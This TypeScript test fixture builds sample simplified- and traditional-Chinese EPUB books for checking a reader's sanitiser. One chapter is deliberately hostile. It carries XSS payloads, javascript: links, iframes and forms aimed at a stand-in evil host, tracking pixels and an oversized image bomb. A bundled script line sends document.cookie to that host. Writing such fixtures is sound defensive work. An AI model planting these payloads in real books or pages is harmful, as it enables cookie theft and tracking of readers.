import { epubEntries, makePng, makeZip, xhtml, type TestEntry } from './test-support.js';

/** Test books written for these tests: a simplified-Chinese EPUB 3 and a traditional-Chinese EPUB 2. */

export const COVER_PNG = makePng(60, 80);
export const FIGURE_PNG = makePng(30, 20);
export const INLINE_PNG = makePng(4, 3);
/** Claims 100,000 × 100,000 pixels in a few bytes. */
const BOMB_PNG = makePng(2, 2, { width: 100_000, height: 100_000 });

const NAV = xhtml(
  '目录',
  `<nav epub:type="toc"><h1>目录</h1><ol>
    <li><a href="text/ch1.xhtml">第一章 胡同口</a>
      <ol><li><a href="text/ch2.xhtml">第二章 夜市</a></li><li><a href="text/ch2.xhtml#s2">夜市（下）</a></li></ol>
    </li>
  </ol></nav>
  <nav epub:type="landmarks"><ol><li><a href="text/cover.xhtml">封面</a></li></ol></nav>`,
);

const COVER_PAGE = xhtml(
  '封面',
  `<div><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 60 80">
     <image width="60" height="80" xlink:href="../images/cover.png"/></svg></div>`,
);

const CH1 = xhtml(
  '城南旧事新编',
  `<h1>第一章 胡同口</h1>
   <p>清晨，胡同口的早点铺子已经排起了队。</p>
   <figure><img src="../images/fig%201.png" alt="胡同示意图"/><figcaption>胡同一角</figcaption></figure>
   <p>王奶奶说：<a href="ch2.xhtml#s1">下一章</a>见。</p>
   <p>详见<a href="https://example.org/hutong">网站</a>。</p>
   <div><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 30 20">
     <image width="30" height="20" xlink:href="../images/fig%201.png"/><text>SVG 文字</text></svg></div>
   <p><img src="../images/huge.png" alt="超大图"/><img src="../images/missing.png" alt=""/></p>`,
);

/** Everything a hostile chapter might try; only the Chinese text may survive. */
const CH2 = xhtml(
  '城南旧事新编',
  `<section epub:type="chapter">
   <h2 onclick="alert(1)">第二章 夜市</h2>
   <script src="../scripts/evil.js"/>
   <p onload="steal()">夜市的灯一盏盏亮起来。</p>
   <p><a href="javascript:alert(document.cookie)">点我</a><a href=" JaVaScRiPt:alert(1)">再点</a></p>
   <img src="https://tracker.example.com/pixel.png" alt="远程图片"/>
   <p><img src="data:image/png;base64,${INLINE_PNG.toString('base64')}" alt="小图"/></p>
   <iframe src="https://evil.example.com/"></iframe>
   <form action="https://evil.example.com/"><input name="q"/><button>提交</button></form>
   <style>body { display: none }</style>
   <div style="position:fixed;top:0;left:0;width:100vw;height:100vh">盖住屏幕</div>
   <svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>
   <object data="evil.swf"></object><embed src="evil.swf"/>
   <meta http-equiv="refresh" content="0;url=https://evil.example.com/"/>
   <p id="s2">最后一段。</p>
   </section>`,
);

function epub3Opf(language = 'zh-CN'): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="bookid">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
    <dc:identifier id="isbn">978-7-000-00000-0</dc:identifier>
    <dc:identifier id="bookid">urn:uuid:1b4e28ba-2fa1-11d2-883f-0016d3cca427</dc:identifier>
    <dc:title>城南旧事新编</dc:title>
    <dc:creator>林小英</dc:creator>
    <dc:creator>王大明</dc:creator>
    <dc:language>${language}</dc:language>
    <dc:date>2021-06</dc:date>
    <dc:publisher>社区出版社</dc:publisher>
    <dc:description>&lt;p&gt;一本写给街坊的小书。&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</dc:description>
  </metadata>
  <manifest>
    <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
    <item id="cover" href="images/cover.png" media-type="image/png" properties="cover-image"/>
    <item id="coverpage" href="text/cover.xhtml" media-type="application/xhtml+xml"/>
    <item id="ch1" href="text/ch1.xhtml" media-type="application/xhtml+xml"/>
    <item id="ch2" href="text/ch2.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
    <item id="fig" href="images/fig%201.png" media-type="image/png"/>
    <item id="huge" href="images/huge.png" media-type="image/png"/>
    <item id="css" href="styles/book.css" media-type="text/css"/>
    <item id="js" href="scripts/evil.js" media-type="application/javascript"/>
    <item id="gone" href="text/gone.xhtml" media-type="application/xhtml+xml"/>
  </manifest>
  <spine>
    <itemref idref="coverpage" linear="no"/>
    <itemref idref="ch1"/>
    <itemref idref="ch2"/>
    <itemref idref="nowhere"/>
    <itemref idref="gone"/>
    <itemref idref="css"/>
  </spine>
</package>`;
}

export function epub3Files(language = 'zh-CN'): Record<string, string | Buffer> {
  return {
    'OEBPS/content.opf': epub3Opf(language),
    'OEBPS/nav.xhtml': NAV,
    'OEBPS/text/cover.xhtml': COVER_PAGE,
    'OEBPS/text/ch1.xhtml': CH1,
    'OEBPS/text/ch2.xhtml': CH2,
    'OEBPS/images/cover.png': COVER_PNG,
    'OEBPS/images/fig 1.png': FIGURE_PNG,
    'OEBPS/images/huge.png': BOMB_PNG,
    'OEBPS/styles/book.css': 'body { background: url(https://tracker.example.com/css.png) }',
    'OEBPS/scripts/evil.js': 'fetch("https://evil.example.com/?" + document.cookie)',
  };
}

export function makeEpub3(language = 'zh-CN'): Promise<Buffer> {
  return makeZip(epubEntries(epub3Files(language)));
}

/** EPUB 2 with `opf:`-prefixed elements, an NCX, `<meta name="cover">` and a bare "zh" language tag. */
const EPUB2_OPF = `<?xml version="1.0" encoding="UTF-8"?>
<opf:package xmlns:opf="http://www.idpf.org/2007/opf" version="2.0" unique-identifier="uid">
  <opf:metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
    <dc:title>老街茶館記</dc:title>
    <dc:creator opf:role="aut">陳美玲</dc:creator>
    <dc:language>zh</dc:language>
    <dc:identifier id="uid">isbn:9789570000000</dc:identifier>
    <dc:date>1998-11-03T00:00:00Z</dc:date>
    <opf:meta name="cover" content="cover-img"/>
  </opf:metadata>
  <opf:manifest>
    <opf:item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>
    <opf:item id="cover-img" href="cover.png" media-type="image/png"/>
    <opf:item id="p1" href="part1.html" media-type="application/xhtml+xml"/>
    <opf:item id="p2" href="part2.html" media-type="application/xhtml+xml"/>
  </opf:manifest>
  <opf:spine toc="ncx"><opf:itemref idref="p1"/><opf:itemref idref="p2"/></opf:spine>
</opf:package>`;

const EPUB2_NCX = `<?xml version="1.0" encoding="UTF-8"?>
<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1">
  <navMap>
    <navPoint id="n1" playOrder="1"><navLabel><text>第一回 茶館</text></navLabel><content src="part1.html"/>
      <navPoint id="n2" playOrder="2"><navLabel><text>第二回 說書人</text></navLabel><content src="part2.html#top"/></navPoint>
    </navPoint>
  </navMap>
</ncx>`;

export const EPUB2_PARAGRAPHS = [
  '老街的茶館裡，說書人正講到精彩處。聽眾們屏住呼吸，連茶都忘了喝。',
  '窗外下著細雨，賣報的孩子躲在屋簷下，數著今天賺來的銅錢。',
];

export function makeEpub2(): Promise<Buffer> {
  const entries: TestEntry[] = epubEntries({
    'OPS/book.opf': EPUB2_OPF,
    'OPS/toc.ncx': EPUB2_NCX,
    'OPS/cover.png': COVER_PNG,
    'OPS/part1.html': xhtml('老街茶館記', `<p>${EPUB2_PARAGRAPHS[0]}</p>`),
    'OPS/part2.html': xhtml('老街茶館記', `<div><p>${EPUB2_PARAGRAPHS[1]}</p></div>`),
  }).map((entry) =>
    entry.name === 'META-INF/container.xml'
      ? { ...entry, data: String(entry.data).replace('OEBPS/content.opf', 'OPS/book.opf') }
      : entry,
  );
  return makeZip(entries);
}
